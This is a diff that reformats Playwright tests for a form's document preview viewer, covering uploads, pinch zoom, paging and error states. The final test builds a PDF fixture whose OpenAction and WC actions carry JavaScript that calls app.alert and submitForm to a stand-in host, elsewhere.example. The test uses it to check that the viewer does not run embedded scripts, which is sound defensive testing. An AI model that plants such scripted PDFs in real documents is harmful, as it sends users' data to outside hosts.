@@ -17,8 +17,15 @@ async function withDocuments(guest: Page): Promise<string> {
   await save(guest, id, { isGroupBooking: false, currentStep: 3 })
   const pdf = await (await guest.request.get('/api/download/medical-form/en')).body()
   const page = await photograph({ width: 1600, height: 1200 })
-  for (const [name, mimeType, buffer] of [['page 1.jpg', 'image/jpeg', page], ['page 2.jpg', 'image/jpeg', page], ['medical.pdf', 'application/pdf', pdf]] as const) {
-    const answer = await guest.request.post(`/api/submissions/${id}/documents`, { multipart: { kind: 'passportCopy', person: '1', file: { name, mimeType, buffer } }, headers: { origin: play.application.url } })
+  for (const [name, mimeType, buffer] of [
+    ['page 1.jpg', 'image/jpeg', page],
+    ['page 2.jpg', 'image/jpeg', page],
+    ['medical.pdf', 'application/pdf', pdf],
+  ] as const) {
+    const answer = await guest.request.post(`/api/submissions/${id}/documents`, {
+      multipart: { kind: 'passportCopy', person: '1', file: { name, mimeType, buffer } },
+      headers: { origin: play.application.url },
+    })
     expect(answer.status()).toBe(201)
   }
   await guest.goto(`/form/${id}`)
@@ -31,7 +38,13 @@ const boxOf = async (page: Page, what: string) => {
 /** Two fingers around a point, so far apart, at this angle. */
 async function fingers(touch: CDPSession, type: 'touchStart' | 'touchMove', apart: number, angle = 0) {
   const [dx, dy] = [(Math.cos(angle) * apart) / 2, (Math.sin(angle) * apart) / 2]
-  await touch.send('Input.dispatchTouchEvent', { type, touchPoints: [{ x: 195 - dx, y: 400 - dy, id: 1 }, { x: 195 + dx, y: 400 + dy, id: 2 }] })
+  await touch.send('Input.dispatchTouchEvent', {
+    type,
+    touchPoints: [
+      { x: 195 - dx, y: 400 - dy, id: 1 },
+      { x: 195 + dx, y: 400 + dy, id: 2 },
+    ],
+  })
 }
 
 it('a preview that cannot be fetched says so over the page, and is there once it can', async () => {
@@ -55,7 +68,9 @@ it('a document that the server cannot give just now says what keeps it, and is t
   const guest = await play.signedIn('/', await play.guest('Nele'), phone)
   await withDocuments(guest)
   const away = { code: 'documents.storeAway', detail: 'Documents cannot be shown just now.' }
-  await guest.route(/\/documents\/[^/]+$/, (route) => route.fulfill({ status: 503, contentType: 'application/problem+json', body: JSON.stringify(away) }))
+  await guest.route(/\/documents\/[^/]+$/, (route) =>
+    route.fulfill({ status: 503, contentType: 'application/problem+json', body: JSON.stringify(away) }),
+  )
   await fieldPlace(guest, 'passportCopyAttached').getByRole('link', { name: 'page 1.jpg' }).click()
   const dialog = guest.getByRole('dialog', { name: 'page 1.jpg' })
   await dialog.getByText(away.detail).waitFor()
@@ -95,7 +110,12 @@ it('a guest sees what was added, page after page, by touch and by keys', async (
   await guest.keyboard.press('PageDown')
   const last = dialog.getByRole('img', { name: 'medical.pdf, File 3 of 3, page 2 of 2' }).locator('canvas')
   await last.waitFor()
-  expect(await last.evaluate((canvas: HTMLCanvasElement) => new Set(canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data).size)).toBeGreaterThan(20)
+  expect(
+    await last.evaluate(
+      (canvas: HTMLCanvasElement) =>
+        new Set(canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data).size,
+    ),
+  ).toBeGreaterThan(20)
   expect(await accessibilityFaults(guest)).toEqual([])
   await guest.keyboard.press('Escape')
   await dialog.waitFor({ state: 'detached' })
@@ -138,9 +158,20 @@ it('a PDF is painted and nothing else: its scans are decoded, its scripts are no
   await withDocuments(guest)
   const acts: string[] = []
   guest.on('dialog', (dialog) => void acts.push(dialog.message()))
-  guest.on('request', (request) => void (new URL(request.url()).origin === play.application.url || request.url().startsWith('blob:') || acts.push(request.url())))
+  guest.on(
+    'request',
+    (request) =>
+      void (
+        new URL(request.url()).origin === play.application.url ||
+        request.url().startsWith('blob:') ||
+        acts.push(request.url())
+      ),
+  )
   const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://elsewhere.example"\\)) >>'
-  for (const [body, dark] of [[faxPage(), 0.5], [pdfOf('x', { catalog: `/OpenAction ${script} /AA << /WC ${script} >>` }), 0]] as const) {
+  for (const [body, dark] of [
+    [faxPage(), 0.5],
+    [pdfOf('x', { catalog: `/OpenAction ${script} /AA << /WC ${script} >>` }), 0],
+  ] as const) {
     await guest.route(/\/documents\/[^/]+$/, (route) => route.fulfill({ body, contentType: 'application/pdf' }))
     await fieldPlace(guest, 'passportCopyAttached').getByRole('button', { name: 'Preview medical.pdf' }).click()
     const canvas = guest.getByRole('dialog').locator('canvas')
